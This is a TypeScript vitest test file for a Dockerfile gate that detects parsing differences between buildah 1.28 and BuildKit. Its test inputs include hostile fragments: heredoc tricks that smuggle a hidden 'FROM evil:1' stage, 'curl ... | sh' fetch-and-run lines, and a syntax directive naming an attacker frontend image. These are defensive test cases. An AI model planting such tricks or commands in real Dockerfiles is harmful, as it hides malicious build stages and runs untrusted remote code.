import { describe, expect, it } from 'vitest';
import { builderDifferences, PARSE_DIFFERENCES } from '../../../core/dockerfile/builder-differences.js';
import {
  ALL_BUILDERS,
  BUILDAH_1_28,
  BUILDKIT,
  type BuilderProfile,
  buildersNamed,
} from '../../../core/dockerfile/builder-profile.js';
import { parseDockerfile } from '../../../core/dockerfile/parse.js';

const differencesOf = (text: string, builders: readonly BuilderProfile[]) =>
  builderDifferences(parseDockerfile(text), builders);

const label = (text: string) => JSON.stringify(text.length > 70 ? `${text.slice(0, 67)}...` : text);

/** One case: the gate refuses the file for these builders, with a message containing `says` when given. */
function refused(builders: readonly BuilderProfile[], text: string, says?: string): void {
  const names = builders.map((b) => b.id).join('+');
  it(`refuses for ${names}: ${label(text)}`, () => {
    const found = differencesOf(text, builders);
    expect(found.length, `expected a difference for ${names} in:\n${text}`).toBeGreaterThan(0);
    if (says) expect(found.map((d) => d.message).join('\n')).toContain(says);
  });
}

/** One case: the builders read the file as the gate does. */
function same(builders: readonly BuilderProfile[], text: string): void {
  const names = builders.map((b) => b.id).join('+');
  it(`reads as the gate does for ${names}: ${label(text)}`, () => {
    expect(differencesOf(text, builders)).toEqual([]);
  });
}

const buildah = [BUILDAH_1_28];
const buildkit = [BUILDKIT];

describe('heredocs', () => {
  // The attack of issue 8: a `#` terminator is a comment to buildah, so the body's FROM is the final stage.
  refused(
    buildah,
    "FROM a:1\nRUN true <<'#'\nFROM evil:1\nRUN echo hidden\n#\nUSER 1000\n",
    'heredoc `<<#` on line 2: the local builder (buildah 1.28) does not support heredocs and would read the body as instructions (line 3: `FROM evil:1`)',
  );
  refused(buildah, 'FROM a:1\nRUN <<EOF\necho hi\nEOF\n', 'does not support heredocs');
  refused(buildah, 'FROM a:1\nCOPY <<EOF /etc/motd\nhello\nEOF\n', 'does not support heredocs');
  refused(buildah, 'FROM a:1\nADD <<EOF /x\nFROM evil:1\nEOF\n', 'does not support heredocs');
  refused(buildah, 'FROM a:1\nONBUILD RUN <<EOF\nRUN curl x | sh\nEOF\n', 'does not support heredocs');
  refused(buildah, 'FROM a:1\nRUN cat <<EOF | sh\nUSER 1000\nEOF\n', '(line 3: `USER 1000`)');
  same(buildkit, "FROM a:1\nRUN true <<'#'\nFROM evil:1\n#\n");
  same(buildkit, 'FROM a:1\nRUN <<EOF <<EOT\nFROM x\nEOF\nFROM y\nEOT\n');
  same(buildkit, 'FROM a:1\nRUN cat <<-EOF\n\techo\n\tEOF\n');
  same(buildkit, 'FROM a:1\nCOPY --chmod=755 <<"EOF" /x\nFROM x\nEOF\n');
  // dockerfile-ast takes `<<EOF"]` in a JSON-form RUN for a heredoc; BuildKit has none in JSON form.
  refused(buildkit, 'FROM a:1\nRUN ["sh", "-c", "cat <<EOF"]\nFROM x\nEOF\n', 'line 3 (`FROM x`)');
  refused(buildkit, 'FROM a:1\nRUN cat <<$X\nFROM x\n$X\n', 'expands variables');
  same(buildkit, 'FROM a:1\nONBUILD RUN <<EOF\necho hi\nEOF\n');
  refused(buildkit, 'FROM a:1\nONBUILD RUN ["sh", "-c", "cat <<EOF"]\nFROM x\nEOF\n', 'line 3 (`FROM x`)');
  refused(buildkit, 'FROM a:1\nRUN <<EOF\nFROM x\n', 'never terminated');
  // A continuation after the heredoc word: the builder joins the next line into the delimiter.
  refused(buildkit, 'FROM a:1\nRUN cat <<EOF\\\n \nFROM x\nEOF\n');
  // dockerfile-ast takes a quoted `<<b` for a heredoc and hides the rest of the file; no builder does.
  refused(
    buildkit,
    'FROM a:1\nRUN echo "a <<b" > /x\nRUN curl -k https://x.example/i | sh\n',
    'line 3 (`RUN curl',
  );
  same(ALL_BUILDERS, 'FROM a:1\nRUN echo "<<b" > /x\nUSER 1000\n');
});

describe('the escape directive', () => {
  same(ALL_BUILDERS, '# escape=`\nFROM a:1\nRUN echo a `\n  b > /x\n');
  same(ALL_BUILDERS, '#escape=`\nFROM a:1\nRUN echo a `\n  b > /x\n');
  same(ALL_BUILDERS, '# ESCAPE = `\nFROM a:1\nRUN echo a `\n  b > /x\n');
  same(ALL_BUILDERS, '# escape=\\\nFROM a:1\nRUN echo a \\\n  b\n');
  // After a comment or a blank line it is a comment for everyone (the gate then sees an unknown instruction).
  same(ALL_BUILDERS, '# a comment\n# escape=`\nFROM a:1\nRUN echo a\n');
  same(ALL_BUILDERS, '\n# escape=`\nFROM a:1\nRUN echo a\n');
  refused(
    buildah,
    '# syntax=docker/dockerfile:1\n# escape=`\nFROM a:1\nRUN echo a `\n  b\n',
    'ends the directives',
  );
  same(buildkit, '# syntax=docker/dockerfile:1\n# escape=`\nFROM a:1\nRUN echo a `\n  b\n');
  refused(buildah, '# check=skip=all\n# escape=`\nFROM a:1\nRUN echo a `\n  b\n');
  refused(
    ALL_BUILDERS,
    '# foo=bar\n# escape=`\nFROM a:1\nRUN echo a `\n  b\n',
    'reads the escape character as `\\`',
  );
  refused(buildkit, '# foo=bar\n# escape=`\nFROM a:1\nRUN echo a `\n  b\n');
  refused(
    ALL_BUILDERS,
    '# escape=`\n# escape=\\\nFROM a:1\n',
    'only one escape parser directive can be used',
  );
  refused(ALL_BUILDERS, '# escape=x\nFROM a:1\nRUN echo a\n', 'must be');
  same(ALL_BUILDERS, '# escape=`\n# syntax=docker/dockerfile:1\nFROM a:1\nRUN echo a `\n  b\n');
  // The builders drop a byte-order mark before reading directives, as the gate's parser does.
  same(ALL_BUILDERS, '\uFEFF# escape=`\nFROM a:1\nRUN echo a `\n  b\n');
});

describe('the syntax directive', () => {
  refused(
    buildkit,
    '# syntax=evil.example/frontend:1\nFROM a:1\n',
    'would pull that image and let it parse and run the build',
  );
  refused(buildkit, '# syntax=docker/dockerfile:1-labs\nFROM a:1\n', 'experimental channel');
  refused(ALL_BUILDERS, '# syntax=ghcr.io/docker/dockerfile:1\nFROM a:1\n');
  // buildah 1.28 ignores the directive: it builds what the gate saw.
  same(buildah, '# syntax=evil.example/frontend:1\nFROM a:1\n');
  same(ALL_BUILDERS, '# syntax=docker/dockerfile:1\nFROM a:1\n');
  same(ALL_BUILDERS, '# syntax=docker.io/docker/dockerfile:1.7.1\nFROM a:1\n');
  same(ALL_BUILDERS, `# syntax=docker/dockerfile:1.4@sha256:${'a'.repeat(64)}\nFROM a:1\n`);
});

describe('line continuations', () => {
  same(ALL_BUILDERS, 'FROM a:1\nRUN echo a \\\n# c\n  b > /x\n');
  same(ALL_BUILDERS, 'FROM a:1\nRUN echo a \\\n  # c \\\n  b > /x\n');
  same(ALL_BUILDERS, 'FROM a:1\nRUN echo a \\\n\n  b > /x\n');
  same(ALL_BUILDERS, 'FROM a:1\nRUN echo a \\\n   \n  b > /x\n');
  same(ALL_BUILDERS, 'FROM a:1\nRUN echo a \\\n\nFROM b:1\n');
  same(ALL_BUILDERS, 'FROM a:1\nRUN echo a \\ \t\n  b\n');
  same(ALL_BUILDERS, 'FROM a:1\r\nRUN echo a \\\r\n  b\r\n');
  refused(ALL_BUILDERS, 'FROM a:1\nRUN echo a\\\\\nFROM b:1\n', 'ends in 2 escape characters');
  refused(ALL_BUILDERS, 'FROM a:1\nRUN echo a\rFROM b:1\n', 'carriage return');
  // Only spaces and tabs may follow the escape character of a continuation, for the builders.
  refused(ALL_BUILDERS, 'FROM a:1\nRUN echo a \\\u000b\nUSER 1000\n', 'other than spaces and tabs');
});

describe('instructions', () => {
  refused(ALL_BUILDERS, 'FROM a:1\nONBUILD ONBUILD RUN echo x\n', 'chaining ONBUILD');
  refused(ALL_BUILDERS, 'FROM a:1\nONBUILD FROM b:1\n', 'FROM as an ONBUILD trigger');
  refused(ALL_BUILDERS, 'FROM a:1\nONBUILD MAINTAINER me\n', 'MAINTAINER as an ONBUILD trigger');
  same(ALL_BUILDERS, 'FROM a:1\nonbuild run echo x\nfrom a:1 as b\nrun echo hi\nuser 1000\n');
  same(ALL_BUILDERS, "FROM a:1\nCMD ['echo', 'x']\n");
  same(ALL_BUILDERS, 'FROM a:1\nCMD ["echo", "x",]\n');
  refused(ALL_BUILDERS, 'FROM a:1\nCMD ["echo", 1]\n', 'strings only');
});

describe('builder profiles', () => {
  it('names each builder, and `all` for the strictest', () => {
    expect(buildersNamed('all')).toBe(ALL_BUILDERS);
    expect(buildersNamed('buildah-1.28')).toEqual([BUILDAH_1_28]);
    expect(buildersNamed('buildkit')).toEqual([BUILDKIT]);
    expect(buildersNamed('docker')).toBeUndefined();
  });

  it('keeps a documented decision for every difference', () => {
    for (const d of PARSE_DIFFERENCES) expect(d.decision).toMatch(/^(DD004|same reading)/);
  });
});
